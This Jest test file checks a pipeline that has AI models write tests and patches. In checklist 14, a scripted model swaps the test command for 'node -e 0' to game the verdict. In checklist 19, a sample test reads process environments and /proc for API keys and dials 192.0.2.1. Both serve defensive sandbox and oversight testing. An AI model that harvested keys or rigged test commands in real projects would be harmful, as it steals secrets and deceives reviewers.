import { spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { describe, expect, it } from "@jest/globals";
import type { ModelRequest } from "../../src/domain/ports.js";
import { changeExpectations } from "../../src/flow/stages/change-expectations.js";
import { choose } from "../../src/flow/stages/choose.js";
import { coverHunks } from "../../src/flow/stages/cover-hunks.js";
import { gatherContext } from "../../src/flow/stages/gather-context.js";
import { implement } from "../../src/flow/stages/implement.js";
import { iterateOnSuite } from "../../src/flow/stages/iterate-on-suite.js";
import { iterateOnTests } from "../../src/flow/stages/iterate-on-tests.js";
import { measureBaseline } from "../../src/flow/stages/measure-baseline.js";
import { review } from "../../src/flow/stages/review.js";
import { understand } from "../../src/flow/stages/understand.js";
import { verify } from "../../src/flow/stages/verify.js";
import { writeTests } from "../../src/flow/stages/write-tests.js";
import { renderStageLog, stageLog } from "../../src/report/stage-log.js";
import { notes } from "../support/flow.js";
import { good, goodTests, newTests, read, solvePrices, testsOf } from "../support/price-flow.js";
import { lastAsked } from "../support/scripted-model.js";
import { code, fileIn, priceFiles, priceTask, replies, testFile, written } from "../support/stages.js";

/* Whole runs for items of docs/checklist.md that no other test shows whole; shorter ones are in checklist.test.ts. */

describe("checklist 1: the stages", () => {
  const all = [
    measureBaseline,
    gatherContext,
    understand,
    writeTests,
    implement,
    choose,
    iterateOnSuite,
    iterateOnTests,
    coverHunks,
    review,
    changeExpectations,
    verify,
  ];

  it("checklist 1: run in their order, each asks its own questions after what the earlier gave, and its output fits its schema", async () => {
    const { outcome, events, model } = await solvePrices({ implement: [replies.implement(code.right)] });
    expect(outcome.kind).toBe("ready");
    const finished = events.flatMap((event) => (event.type === "stage-finished" ? [event] : []));
    const optional = new Set(["choose", "coverHunks", "changeExpectations"]);
    const wanted = all.filter(({ name }) => !optional.has(name)).map(({ name }) => name);
    const side = ["writeTests", "implement"];
    expect(finished.map(({ stage }) => stage).filter((name) => !side.includes(name))).toEqual(
      wanted.filter((name) => !side.includes(name)),
    );
    expect(finished.map(({ stage }) => stage).sort()).toEqual([...wanted].sort());
    for (const { stage, output } of finished) {
      const schema = all.find(({ name }) => name === stage)?.output;
      expect([stage, schema?.safeParse(output).success]).toEqual([stage, true]);
      expect([stage, schema?.safeParse(null).success]).toEqual([stage, false]);
    }
    const asked = (stage: string) => model.requests.filter((request) => request.stage === stage);
    const words = (stage: string) =>
      asked(stage)[0]
        ?.messages.map(({ content }) => content)
        .join("\n") ?? "";
    for (const { name, questions } of all) {
      const answered = events.flatMap((event) =>
        event.type === "model-replied" && event.stage === name ? event.questions : [],
      );
      expect(answered.every((one) => questions.some((question) => question.name === one))).toBe(true);
      for (const key of answered) expect(lastAsked(asked(name)[0])).toContain(`${key}:`);
    }
    expect(words("understand")).toContain("export const price = (cents) => String(cents);");
    expect(words("understand")).toContain(priceTask.body);
    expect(words("writeTests")).toMatch(/rules:\s+- two digits\s+- zero is free/);
    expect(words("implement")).toMatch(/src\/price\.js, price: it gives the cents[\s\S]*divide and format/);
  });
});

describe("checklist 2: replies with slips of form", () => {
  it("checklist 2: are repaired without another call: no fence, prose around, carriage returns, a colon in a plain text", async () => {
    const colon = read().replace("goal: prices in euros", "goal: prices: in euros");
    const { outcome, model } = await solvePrices({
      understand: [colon.replace(/^```yaml\n([\s\S]*?)\n```\n/, "$1\n")],
      writeTests: [`Sure! Here it is:\n\n${goodTests}\nI hope that this helps.\n`],
      implement: [replies.implement(code.right).replaceAll("\n", "\r\n")],
    });
    expect(outcome.kind).toBe("ready");
    expect(model.requests).toHaveLength(3);
  });
});

describe("checklist 5: approaches", () => {
  it("checklist 5: a single sketch is sent back, and the ranking decides which of two is coded", async () => {
    const single = read().replace(/ {4}- name: Plain\n.*\n.*\n/, "");
    expect(single).not.toContain("name: Plain");
    // Sketched second, ranked first.
    const { model, events, outcome } = await solvePrices({
      understand: [single, read(["Plain", "Two steps"])],
      implement: [replies.implement(code.right)],
    });
    expect(notes(events, "reply-unusable")).toEqual([expect.stringContaining("sketches")]);
    const asked = lastAsked(model.requests.find(({ stage }) => stage === "implement"));
    expect(asked).toContain("divide and format");
    expect(asked).not.toContain("euros first");
    expect(outcome.kind).toBe("ready");
  });
});

describe("checklist 7: anchors", () => {
  it("checklist 7: are each named once, however often a test passes", async () => {
    const { events, outcome } = await solvePrices({
      implement: [replies.implement(code.forgetsZero)],
      iterateOnTests: [replies.fix(code.right)],
    });
    const anchors = notes(events, "anchor");
    expect(anchors).toHaveLength(2);
    expect(new Set(anchors).size).toBe(anchors.length);
    expect(outcome.kind).toBe("ready");
  });
});

describe("checklist 9: what a model that never gets there may use", () => {
  it("checklist 9: stays within calls and tokens, and what it used is in the journal", async () => {
    const never = (request: { messages: readonly unknown[] }) =>
      replies.fix(`// ${request.messages.length} ${randomBytes(4).toString("hex")}\n${code.forgetsZero}`);
    const other = () => replies.implement(`// ${randomBytes(4).toString("hex")}\n${code.forgetsZero}`);
    const budget = { calls: 5, inputTokens: 40_000 };
    const { events, outcome, model } = await solvePrices(
      { implement: Array(30).fill(other), iterateOnTests: Array(30).fill(never) },
      { config: { budget } },
    );
    expect(outcome).toMatchObject({ kind: "draft" });
    const last = events.at(-1);
    if (last?.type !== "run-finished") throw new Error("the run did not end");
    expect(last.usage.calls).toBe(model.requests.length);
    expect(last.usage.calls).toBeLessThanOrEqual(budget.calls);
    expect(last.usage.inputTokens).toBeLessThanOrEqual(budget.inputTokens);
    const told = events.flatMap((event) => (event.type === "model-replied" ? [event.usage] : []));
    expect(told.reduce((sum, { inputTokens }) => sum + inputTokens, 0)).toBe(last.usage.inputTokens);
    expect(told.reduce((sum, { outputTokens }) => sum + outputTokens, 0)).toBe(last.usage.outputTokens);
    expect(events[0]).toMatchObject({ type: "run-started", caps: budget });
  });
});

describe("checklist 11: what was wrong before", () => {
  it("checklist 11: a test that failed on the base is neither blamed on the patch nor asked to be mended", async () => {
    const unsteady = `import { it } from "node:test";
it("failed before", () => { throw new Error("red already"); });
`;
    const { outcome, model } = await solvePrices(
      { implement: [replies.implement(code.right)] },
      {},
      { ...priceFiles, "test/unsteady.test.js": unsteady },
    );
    expect(outcome).toMatchObject({ kind: "ready" });
    if (outcome.kind !== "ready") return;
    expect(outcome.evidence.comparison).toMatchObject({
      broken: [],
      stillFailing: ["test/unsteady.test.js > failed before"],
    });
    expect(model.requests).toHaveLength(3);
    expect(model.requests[0]?.messages.at(-1)?.content).toContain("failed before");
  });
});

describe("checklist 12: generated tests", () => {
  it("checklist 12: one that imports what is not there is asked for once more, then dropped with the reason", async () => {
    const broken = testFile(good).replace("../src/price.js", "./price.js");
    const { events, model, outcome } = await solvePrices({
      writeTests: [testsOf(broken, Object.keys(good)), testsOf("it(((\n", ["x"])],
      implement: [replies.implement(code.right)],
      review: [replies.keep],
    });
    const again = model.requests.filter(({ stage }) => stage === "writeTests")[1];
    expect(lastAsked(again)).toContain("don't run at all");
    expect(notes(events, "test-dropped")).toHaveLength(1);
    expect(outcome.kind).not.toBe("ready");
    if ("changes" in outcome) expect(outcome.changes.files.map(({ path }) => path)).not.toContain(newTests);
  });

  it("checklist 12: one of a function that only the patch brings is red because absent, and counts as proof", async () => {
    const absent = `import assert from "node:assert/strict";
import { it } from "node:test";
import * as prices from "../src/price.js";
it("keeps two digits", () => { assert.equal(prices.euros(150), "1.50"); });
`;
    const { outcome, events } = await solvePrices({
      writeTests: [testsOf(absent, ["keeps two digits"])],
      implement: [
        replies.implement(
          `${priceFiles["src/price.js"]}export const euros = (cents) => (cents / 100).toFixed(2);\n`,
        ),
      ],
    });
    expect(notes(events, "test-red-because-absent")).toHaveLength(1);
    expect(outcome).toMatchObject({
      kind: "ready",
      evidence: { newTests: [{ onBase: "absent", onHead: "passed" }] },
    });
    expect("changes" in outcome && fileIn(outcome.changes, newTests)).toBe(absent);
  });
});

describe("checklist 14: a model that makes the test command pass always", () => {
  it("checklist 14: is judged by the base's own command, gets no pull request, and is named", async () => {
    const always = `${priceFiles["package.json"].replace("node --test", "node -e 0")}\n`;
    const bad = written("src/price.js", "export const price = () => 1;\n") + written("package.json", always);
    const yaml = (reply: string) => reply.slice(0, reply.indexOf("\nWRITE"));
    const reply = (request: ModelRequest) =>
      yaml(lastAsked(request).includes("implement:") ? replies.implement("") : replies.fix("")) + bad;
    const forEver = Array<typeof reply>(9).fill(reply);
    const { outcome, events } = await solvePrices(
      { implement: [reply], iterateOnSuite: forEver, iterateOnTests: forEver },
      { config: { climbTo: "standard" } },
    );
    expect(notes(events, "reply-unusable")).toEqual([]);
    expect(outcome).toMatchObject({ kind: "gaveUp", why: expect.stringContaining("gives a text") });
    expect(notes(events, "objection").join("\n")).toContain(
      "change to package.json is left out of the verdict: it changes `scripts`",
    );
  });
});

describe("checklist 17: the values of the failing run", () => {
  it("checklist 17: reach the prompt, with the test's own source and no other test's", async () => {
    const { model } = await solvePrices({
      implement: [replies.implement(code.forgetsZero)],
      iterateOnTests: [replies.fix(code.right)],
    });
    const asked = lastAsked(model.requests.at(-1));
    expect(asked).toContain("zero is free");
    expect(asked).toContain("0.00");
    expect(asked).toContain('assert.equal(price(0), "free")');
  });
});

describe("checklist 19: code that a model wrote", () => {
  it("checklist 19: finds no key in its environment, its parents' or the files, and no network to send one to", async () => {
    const canary = `sk-${randomBytes(16).toString("hex")}`;
    const spy = `import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import net from "node:net";
import { it } from "node:test";
import { price } from "../src/price.js";

it("zero is free", async () => {
  const seen = [JSON.stringify(process.env)];
  for (const id of readdirSync("/proc").filter((name) => /^\\d+$/.test(name))) {
    try { seen.push(readFileSync("/proc/" + id + "/environ", "latin1")); } catch {}
  }
  const sent = await new Promise((done) => {
    const socket = net.connect(53, "192.0.2.1", () => done("sent"));
    socket.on("error", (error) => done("kept: " + error.code));
    socket.setTimeout(1000, () => { socket.destroy(); done("kept: no answer"); });
  });
  const found = seen.join("").match(/sk-[0-9a-f]{32}/g) ?? [];
  assert.equal(price(0), "free", "found " + found.length + " " + found.map((key) => Buffer.from(key).toString("hex")) + ", " + sent);
});
`;
    const before = process.env.OPENAI_API_KEY;
    process.env.OPENAI_API_KEY = canary;
    try {
      const { model, events } = await solvePrices(
        {
          writeTests: [testsOf(spy, ["zero is free"])],
          implement: [replies.implement(code.forgetsZero)],
          iterateOnTests: [replies.fix(code.right)],
        },
        { environment: { OPENAI_API_KEY: canary, GITHUB_TOKEN: canary } },
      );
      expect(lastAsked(model.requests.at(-1))).toMatch(/found 0 , kept: /);
      const all = JSON.stringify([events, model.requests]);
      for (const form of ["utf8", "hex", "base64"] as const)
        expect(all).not.toContain(Buffer.from(canary).toString(form));
    } finally {
      if (before === undefined) delete process.env.OPENAI_API_KEY;
      else process.env.OPENAI_API_KEY = before;
    }
  });
});

describe("checklist 21: a run in which nothing works", () => {
  it("checklist 21: gives up with the reason, and calls nothing done", async () => {
    const bad = (note: string) => replies.fix(`// ${note}\nexport const price = () => 1;\n`);
    const { outcome } = await solvePrices(
      {
        implement: [
          replies.implement("export const price = () => 1;\n"),
          replies.implement("export const price = () => 2;\n"),
        ],
        iterateOnSuite: [
          bad("a"),
          bad("b"),
          replies.implement("export const price = () => 3;\n"),
          bad("c"),
          bad("d"),
        ],
        iterateOnTests: Array(9).fill(bad("e")),
      },
      { config: { budget: { calls: 5 } } },
    );
    expect(outcome).toMatchObject({ kind: "gaveUp", closest: expect.stringContaining("nearest try") });
    expect(outcome).not.toHaveProperty("changes");
  });
});

describe("checklist 22: the log of a run", () => {
  it("checklist 22: shows each stage's calls, tokens, tests, and what was rejected and why", async () => {
    const { events } = await solvePrices({
      writeTests: [
        testsOf(testFile(good).replace("../src/price.js", "./price.js"), Object.keys(good)),
        goodTests,
      ],
      implement: [replies.implement(code.forgetsZero)],
      iterateOnTests: [
        replies.fix('export const price = (cents) => (cents === 0 ? "free" : String(cents));\n'),
        replies.fix(code.right),
      ],
    });
    const log = stageLog(events);
    const entry = (stage: string) => log.find((one) => one.stage === stage);
    for (const stage of ["understand", "writeTests", "implement", "iterateOnTests"]) {
      expect(entry(stage)?.usage.calls).toBeGreaterThan(0);
      expect(entry(stage)?.usage.inputTokens).toBeGreaterThan(0);
      expect(entry(stage)?.usage.outputTokens).toBeGreaterThan(0);
    }
    expect(entry("writeTests")?.notes.map(({ kind }) => kind)).toEqual(["test-broken", "test-red"]);
    expect(entry("iterateOnTests")?.notes.map(({ kind }) => kind)).toContain("fix-rejected");
    expect(entry("iterateOnTests")?.commands.at(-1)?.tests).toEqual({ passed: 3, failed: 0, skipped: 0 });
    expect(entry("verify")?.notes).toEqual([
      { kind: "verdict", text: expect.stringContaining("2 new tests red before and green now") },
    ]);
    const asked = events.flatMap((event) => (event.type === "model-replied" ? [event] : []));
    expect(asked.every(({ messages, text }) => messages.length > 0 && text !== "")).toBe(true);
    const page = renderStageLog(log);
    expect(page).toContain("Cost");
    expect(page).toContain("fix-rejected");
  });
});

describe("checklist 23: a compiled language", () => {
  const hasGo = spawnSync("go", ["version"]).status === 0;
  (hasGo ? it : it.skip)(
    "checklist 23: goes the same way in Go, a fix among it (needs go)",
    async () => {
      const source = (body: string, imports = "fmt") =>
        `package prices\n\nimport "${imports}"\n\n// Price of so many cents.\nfunc Price(cents int) string {\n${body}}\n`;
      const digits = '\treturn fmt.Sprintf("%.2f", float64(cents)/100)\n';
      const right = source(`\tif cents == 0 {\n\t\treturn "free"\n\t}\n${digits}`);
      const test = (name: string, cents: number, expected: string) =>
        `func ${name}(t *testing.T) {\n\tif got := Price(${cents}); ${expected} {\n\t\tt.Fatalf("got %q", got)\n\t}\n}\n`;
      const head = 'package prices\n\nimport "testing"\n\n';
      const go = (reply: string) => reply.replaceAll("src/price.js", "price.go").replaceAll("```js", "```go");
      const tests = `${head}${test("TestDigits", 150, 'got != "1.50"')}\n${test("TestZero", 0, 'got != "free"')}`;
      const { outcome, model } = await solvePrices(
        {
          understand: [go(read())],
          writeTests: [go(testsOf(tests, ["TestDigits", "TestZero"], "price_new_test.go"))],
          implement: [go(replies.implement(source(digits)))],
          iterateOnTests: [go(replies.fix(right))],
        },
        {},
        {
          "go.mod": "module example.org/prices\n\ngo 1.20\n",
          "price.go": source("\treturn strconv.Itoa(cents)\n", "strconv"),
          "price_test.go": `${head}${test("TestText", 1, 'got == ""')}`,
        },
      );
      expect(lastAsked(model.requests.at(-1))).toContain('got "0.00"');
      expect(outcome).toMatchObject({
        kind: "ready",
        evidence: { base: { passed: 1 }, head: { passed: 3 } },
      });
      expect("changes" in outcome && fileIn(outcome.changes, "price.go")).toBe(right);
    },
    300_000,
  );
});
